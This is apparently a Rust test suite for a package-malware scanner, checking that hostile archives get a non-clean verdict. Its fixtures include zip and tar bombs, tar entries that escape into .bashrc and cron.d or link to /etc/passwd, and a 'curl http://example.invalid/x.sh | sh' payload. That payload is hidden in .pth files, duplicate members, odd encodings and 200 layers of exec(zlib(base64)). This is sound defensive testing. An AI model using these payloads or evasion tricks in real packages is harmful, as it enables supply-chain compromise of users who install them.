//! Hostile input (issues #2 and #8): every case ends with a verdict that is not `clean`, within
//! bounds, without crashing. Each case prints its time and peak memory; the assertions on them
//! are hang/exhaustion detectors with a wide margin, not speed targets (those live in benches/).

use crate::support::{engine, gzip, measured, tar, zip};
use ferret_report::{PackageReport, Verdict};
use std::io::Write;
use std::time::Duration;

const HANG: Duration = Duration::from_secs(20);
const MEMORY: u64 = 512 << 20;

fn scan(name: &str, bytes: &[u8], file_name: &str) -> PackageReport {
    let (report, elapsed, peak) =
        measured(name, || engine().scan_bytes(bytes, file_name, file_name));
    assert!(elapsed < HANG, "{name} took {elapsed:?}");
    assert!(peak < MEMORY, "{name} peaked at {peak} bytes");
    report
}

fn rules_fired(r: &PackageReport) -> Vec<&str> {
    r.findings.iter().map(|f| f.rule.as_str()).collect()
}

#[test]
fn zip_bomb_is_not_clean() {
    // One member inflating to 256 MiB of spaces: the ratio limit stops it.
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(true);
    w.start_file("bomb/setup.py", opts).unwrap();
    w.write_all(b"# padding\n").unwrap();
    let spaces = vec![b' '; 1 << 20];
    for _ in 0..256 {
        w.write_all(&spaces).unwrap();
    }
    let bytes = w.finish().unwrap().into_inner();
    let r = scan("zip bomb (256 MiB member)", &bytes, "bomb-1.0.zip");
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        rules_fired(&r).contains(&"archive-limit-exceeded"),
        "{:?}",
        rules_fired(&r)
    );
}

#[test]
fn tar_gz_ratio_bomb_is_not_clean() {
    // Streamed straight into gzip, so the test never holds the inflated bytes.
    let mut t = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    let size = 1u64 << 28;
    let mut h = tar::Header::new_gnu();
    h.set_size(size);
    h.set_mode(0o644);
    h.set_path("bomb-1.0/data.bin").unwrap();
    h.set_cksum();
    t.append(&h, std::io::repeat(0).take(size)).unwrap();
    let bytes = t.into_inner().unwrap().finish().unwrap();
    let r = scan(
        "tar.gz ratio bomb (256 MiB member)",
        &bytes,
        "bomb-1.0.tar.gz",
    );
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        rules_fired(&r).contains(&"archive-limit-exceeded"),
        "{:?}",
        rules_fired(&r)
    );
}

use std::io::Read as _;

/// A tar header whose name and link bytes are written raw (the tar crate refuses `..`).
fn raw_entry(name: &str, kind: tar::EntryType, link: Option<&str>, data: &[u8]) -> Vec<u8> {
    let mut h = tar::Header::new_gnu();
    {
        let gnu = h.as_gnu_mut().unwrap();
        gnu.name[..name.len()].copy_from_slice(name.as_bytes());
        if let Some(l) = link {
            gnu.linkname[..l.len()].copy_from_slice(l.as_bytes());
        }
    }
    h.set_entry_type(kind);
    h.set_size(data.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    let mut out = h.as_bytes().to_vec();
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

#[test]
fn traversal_and_links_are_findings() {
    let mut raw = Vec::new();
    raw.extend(raw_entry(
        "evil-1.0/setup.py",
        tar::EntryType::Regular,
        None,
        b"from setuptools import setup\nsetup(name='evil')\n",
    ));
    raw.extend(raw_entry(
        "evil-1.0/../../home/user/.bashrc",
        tar::EntryType::Regular,
        None,
        b"echo hi\n",
    ));
    raw.extend(raw_entry(
        "/etc/cron.d/evil",
        tar::EntryType::Regular,
        None,
        b"* * * * * root true\n",
    ));
    raw.extend(raw_entry(
        "evil-1.0/link",
        tar::EntryType::Symlink,
        Some("/etc/passwd"),
        b"",
    ));
    raw.extend(raw_entry(
        "evil-1.0/loop",
        tar::EntryType::Symlink,
        Some("loop"),
        b"",
    ));
    raw.extend(raw_entry(
        "evil-1.0/hard",
        tar::EntryType::Link,
        Some("evil-1.0/setup.py"),
        b"",
    ));
    raw.extend(raw_entry("evil-1.0/dev", tar::EntryType::Char, None, b""));
    raw.extend(vec![0u8; 1024]);
    let r = scan(
        "tar with ../, absolute, symlink, hardlink, device",
        &gzip(&raw),
        "evil-1.0.tar.gz",
    );
    assert_ne!(r.verdict, Verdict::Clean);
    let fired = rules_fired(&r);
    assert!(fired.contains(&"archive-path-escape"), "{fired:?}");
    assert!(fired.contains(&"archive-special-member"), "{fired:?}");
    // Nothing was written anywhere: the member is only reported.
    assert!(r.findings.iter().any(|f| f.message.contains("..")));
}

#[test]
fn deeply_nested_source_is_not_clean() {
    for (what, src) in [
        (
            "brackets",
            format!("x = {}1{}\n", "[".repeat(100_000), "]".repeat(100_000)),
        ),
        (
            "calls",
            format!("x = {}1{}\n", "f(".repeat(100_000), ")".repeat(100_000)),
        ),
        ("unary", format!("x = {}1\n", "-".repeat(100_000))),
        ("lambdas", format!("x = {}1\n", "lambda: ".repeat(100_000))),
    ] {
        let files = vec![("deep-1.0/deep/__init__.py".to_string(), src.into_bytes())];
        let r = scan(
            &format!("100,000 nested {what}"),
            &gzip(&tar(&files)),
            "deep-1.0.tar.gz",
        );
        assert_ne!(r.verdict, Verdict::Clean, "{what}");
        assert!(
            rules_fired(&r).contains(&"unanalysed-code"),
            "{what}: {:?}",
            rules_fired(&r)
        );
        assert!(!r.not_analysed.is_empty());
    }
}

#[test]
fn many_members_hit_the_member_limit() {
    let files: Vec<(String, Vec<u8>)> = (0..200_000)
        .map(|i| (format!("many-1.0/f{i}.txt"), Vec::new()))
        .collect();
    let bytes = zip(&files);
    let r = scan("200,000 members", &bytes, "many-1.0.zip");
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(rules_fired(&r).contains(&"archive-limit-exceeded"));
}

#[test]
fn nested_archives_stop_at_the_depth_limit() {
    let mut inner = zip(&[(
        "x/setup.py".to_string(),
        b"import os\nos.system('curl http://example.invalid/x | sh')\n".to_vec(),
    )]);
    for i in 0..50 {
        inner = zip(&[(format!("layer{i}.zip"), inner)]);
    }
    let r = scan("zip nested 50 deep", &inner, "nest-1.0.zip");
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        rules_fired(&r).contains(&"archive-limit-exceeded"),
        "{:?}",
        rules_fired(&r)
    );
}

#[test]
fn truncated_archives_are_unscannable_not_clean() {
    let full = gzip(&tar(&[("t-1.0/setup.py".to_string(), vec![b'#'; 100_000])]));
    for cut in [10, full.len() / 2] {
        let r = scan(
            &format!("tar.gz truncated at {cut}"),
            &full[..cut],
            "t-1.0.tar.gz",
        );
        assert_ne!(r.verdict, Verdict::Clean, "cut at {cut}");
    }
    let z = zip(&[("t-1.0/setup.py".to_string(), vec![b'#'; 100_000])]);
    let r = scan("zip truncated", &z[..z.len() / 2], "t-1.0.zip");
    assert_ne!(r.verdict, Verdict::Clean);
}

#[test]
fn payload_after_a_syntax_error_is_still_found() {
    let src =
        b"def broken(:\n    pass\nimport os\nos.system('curl http://example.invalid/x.sh | sh')\n";
    let files = vec![("p-1.0/setup.py".to_string(), src.to_vec())];
    let r = scan(
        "payload after a syntax error",
        &gzip(&tar(&files)),
        "p-1.0.tar.gz",
    );
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
}

#[test]
fn duplicate_member_hiding_a_payload_is_scanned() {
    let files = vec![
        (
            "d-1.0/d/__init__.py".to_string(),
            b"VERSION = '1.0'\n".to_vec(),
        ),
        (
            "d-1.0/d/__init__.py".to_string(),
            b"import os\nos.system('curl http://example.invalid/x.sh | sh')\n".to_vec(),
        ),
    ];
    let r = scan("duplicate member", &gzip(&tar(&files)), "d-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
}

#[test]
fn hidden_places_are_scanned() {
    let payload = b"import os\nos.system('curl http://example.invalid/x.sh | sh')\n".to_vec();
    for (what, path) in [
        ("tests/", "h-1.0/tests/test_x.py"),
        (".pth", "h-1.0/h.pth"),
        ("dot dir", "h-1.0/.hidden/x.py"),
    ] {
        let data = if path.ends_with(".pth") {
            b"import os; os.system('curl http://example.invalid/x.sh | sh')\n".to_vec()
        } else {
            payload.clone()
        };
        let r = scan(
            &format!("payload in {what}"),
            &gzip(&tar(&[(path.to_string(), data)])),
            "h-1.0.tar.gz",
        );
        assert_ne!(r.verdict, Verdict::Clean, "{what}: {:?}", rules_fired(&r));
    }
    // A non-.py file run by setup.py.
    let files = vec![
        (
            "h-1.0/setup.py".to_string(),
            b"exec(open('h/payload.dat').read())\n".to_vec(),
        ),
        ("h-1.0/h/payload.dat".to_string(), payload),
    ];
    let r = scan(
        "payload in a .dat run by setup.py",
        &gzip(&tar(&files)),
        "h-1.0.tar.gz",
    );
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
}

#[test]
fn encodings_and_odd_bytes_do_not_hide_code() {
    let payload = "import os\nos.system('curl http://example.invalid/x.sh | sh')\n";
    let mut utf16 = vec![0xff, 0xfe];
    utf16.extend(payload.encode_utf16().flat_map(u16::to_le_bytes));
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "latin-1 cookie",
            [
                b"# -*- coding: latin-1 -*-\nx = 'caf\xe9'\n".to_vec(),
                payload.as_bytes().to_vec(),
            ]
            .concat(),
        ),
        ("utf-16 BOM", utf16),
        (
            "unknown codec",
            format!("# coding: made-up\n{payload}").into_bytes(),
        ),
        (
            "invalid UTF-8",
            [b"x = '\xff\xfe'\n".to_vec(), payload.as_bytes().to_vec()].concat(),
        ),
        (
            "NUL bytes",
            [b"x = 1\n\0\n".to_vec(), payload.as_bytes().to_vec()].concat(),
        ),
        (
            "bidi controls",
            format!("x = 1 # \u{202e} }}\n{payload}").into_bytes(),
        ),
    ];
    for (what, src) in cases {
        let r = scan(
            what,
            &gzip(&tar(&[("e-1.0/setup.py".to_string(), src)])),
            "e-1.0.tar.gz",
        );
        assert_ne!(r.verdict, Verdict::Clean, "{what}");
    }
}

#[test]
fn huge_one_line_string_is_bounded() {
    let src = format!("x = '{}'\n", "A".repeat(50 << 20));
    let r = scan(
        "50 MB one-line string",
        &gzip(&tar(&[("s-1.0/s.py".to_string(), src.into_bytes())])),
        "s-1.0.tar.gz",
    );
    assert_ne!(r.verdict, Verdict::Clean);
}

fn b64(data: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len() * 4 / 3 + 4);
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            out.push(if i <= chunk.len() {
                A[((n >> (18 - 6 * i)) & 63) as usize] as char
            } else {
                '='
            });
        }
    }
    out
}

fn zlib_compress(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn scan_source(name: &str, src: String) -> PackageReport {
    scan(
        name,
        &gzip(&tar(&[(
            "x-1.0/x/__init__.py".to_string(),
            src.into_bytes(),
        )])),
        "x-1.0.tar.gz",
    )
}

#[test]
fn gigabyte_zlib_bomb_inside_base64_is_bounded() {
    // 1 GiB of zeros, zlib-compressed (about 1 MB), base64 in the source: the decoder stops at
    // its cap and says so.
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..1024 {
        e.write_all(&chunk).unwrap();
    }
    let blob = b64(&e.finish().unwrap());
    let r = scan_source(
        "1 GiB zlib bomb in base64",
        format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"),
    );
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        rules_fired(&r).contains(&"unanalysed-code"),
        "{:?}",
        rules_fired(&r)
    );
}

#[test]
fn many_layers_of_encoding_end_with_a_finding() {
    // 200 genuine layers of exec(zlib(base64(...))): followed to the layer bound, then reported.
    let mut payload = "import os\nos.system('curl http://example.invalid/x.sh | sh')\n".to_string();
    for _ in 0..200 {
        payload = format!(
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('{}')))\n",
            b64(&zlib_compress(payload.as_bytes()))
        );
    }
    let r = scan_source("200 layers of exec(zlib(base64))", payload);
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        rules_fired(&r).contains(&"unanalysed-code"),
        "{:?}",
        rules_fired(&r)
    );
    assert!(r
        .findings
        .iter()
        .any(|f| f.decoded.as_ref().is_some_and(|d| d.chain.len() >= 24)));
    // 10,000 nested decoder calls in one expression: bounded by the nesting limit.
    let src = format!(
        "import base64\nexec({}'cHJpbnQoMSk='{})\n",
        "base64.b64decode(".repeat(10_000),
        ")".repeat(10_000)
    );
    let r = scan_source("10,000 nested decoder calls", src);
    assert_ne!(r.verdict, Verdict::Clean);
}

#[test]
fn self_referential_decoder_is_bounded() {
    let src =
        "def d(x):\n    return d(x[::-1])\nexec(d('payload'))\nf = lambda s: f(s)\nexec(f('x'))\n"
            .to_string();
    let r = scan_source("self-referential decoder", src);
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        rules_fired(&r).contains(&"unanalysed-code"),
        "{:?}",
        rules_fired(&r)
    );
}
